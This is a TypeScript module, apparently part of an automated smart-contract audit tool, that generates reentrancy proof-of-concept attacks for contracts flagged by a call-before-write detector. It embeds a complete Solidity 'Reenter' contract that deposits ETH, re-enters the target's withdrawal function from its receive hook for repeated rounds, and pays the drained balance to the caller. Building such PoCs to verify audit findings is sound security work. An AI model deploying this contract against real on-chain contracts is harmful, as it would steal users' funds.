import type { Poc } from '../../../../tasks/kinds/audit.ts';
import type { CallAction } from '../../../../tasks/kinds/scenario.ts';
import type { FunctionModel, Parameter } from '../../solidity/codeModel.ts';
import { traceFunction } from '../../solidity/traceFunction.ts';
import type { Suspicion } from '../suspicion.ts';
import type { Instance, Target } from '../target.ts';
import { ATTACKER, type Template } from '../template.ts';

/** Puts ETH in through a contract that, on being paid back, asks to be paid again. */
export const reenter: Template = {
  name: 'reenter',
  detector: 'callBeforeWrite',
  *attempts(target, suspicion) {
    const { contract } = suspicion;
    for (const instance of target.instances.filter((one) => one.contract === contract)) {
      for (const deposit of depositsOf(target, suspicion)) {
        const source = attackSource(deposit, suspicion);
        if (source === undefined) continue;
        for (const { value, rounds } of stakes(instance)) {
          yield attackPoc(source, { instance, value, rounds });
        }
      }
    }
  },
};

/** As much as the target holds, paid out twice; or small change many times. */
function stakes({ reference }: Instance): { value: CallAction['value']; rounds: string }[] {
  return [
    { value: { eth: reference }, rounds: '1' },
    { value: '1000000000000000000', rounds: '20' },
    { value: '10000000000000000', rounds: '20' },
  ];
}

/** Payable functions that write what the suspected one reads too early. */
function depositsOf({ model }: Target, { contract, variables }: Suspicion): FunctionModel[] {
  return contract.functions.filter(
    (one) =>
      one.isEntry &&
      one.isPayable &&
      traceFunction(model, contract, one).steps.some(
        (step) => step.kind === 'write' && variables.includes(step.variable),
      ),
  );
}

function attackPoc(
  source: string,
  { instance, value, rounds }: { instance: Instance; value: CallAction['value']; rounds: string },
): Poc {
  return {
    source,
    contract: 'Reenter',
    constructorArgs: [instance.reference],
    constructorValue: '0',
    calls: [{ from: ATTACKER, to: '$poc', fn: 'run(uint256)', args: [rounds], value }],
  };
}

function attackSource(
  deposit: FunctionModel,
  { function: weak, variables }: Suspicion,
): string | undefined {
  const enter = encodedCall(deposit, 'msg.value');
  const leave = encodedCall(weak, 'unit');
  if (enter === undefined || leave === undefined) return undefined;
  const ledger = variables.find(
    ({ isPublic, type }) => isPublic && type === 'mapping(address => uint256)',
  );
  const credit =
    ledger === undefined
      ? 'msg.value'
      : `abi.decode(_ask(abi.encodeWithSignature("${ledger.name}(address)", address(this))), (uint256))`;
  return SOURCE.replace('ENTER', enter).replace('LEAVE', leave).replace('CREDIT', credit);
}

function encodedCall({ signature, parameters }: FunctionModel, amount: string): string | undefined {
  const values = parameters.map((one) => literal(one, amount));
  if (signature === undefined || values.includes(undefined)) return undefined;
  return `abi.encodeWithSignature(${[`"${signature}"`, ...values].join(', ')})`;
}

function literal({ name, type }: Parameter, amount: string): string | undefined {
  if (type === 'address') return 'address(this)';
  if (type === 'bytes') return 'bytes("")';
  if (/^uint/.test(type)) return /min|slippage/i.test(name) ? 'uint256(0)' : amount;
  return undefined;
}

const SOURCE = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract Reenter {
    address private immutable target;
    uint256 private rounds;
    uint256 private unit;

    constructor(address target_) {
        target = target_;
    }

    function run(uint256 rounds_) external payable {
        (bool entered, ) = target.call{value: msg.value}(ENTER);
        require(entered, "cannot enter");
        unit = CREDIT;
        rounds = rounds_;
        require(_leave(), "cannot leave");
        (bool sent, ) = msg.sender.call{value: address(this).balance}("");
        require(sent, "cannot pay out");
    }

    receive() external payable {
        if (rounds == 0) return;
        rounds -= 1;
        _leave();
    }

    function _leave() private returns (bool left) {
        (left, ) = target.call(LEAVE);
    }

    function _ask(bytes memory question) private view returns (bytes memory answer) {
        (, answer) = target.staticcall(question);
    }
}
`;
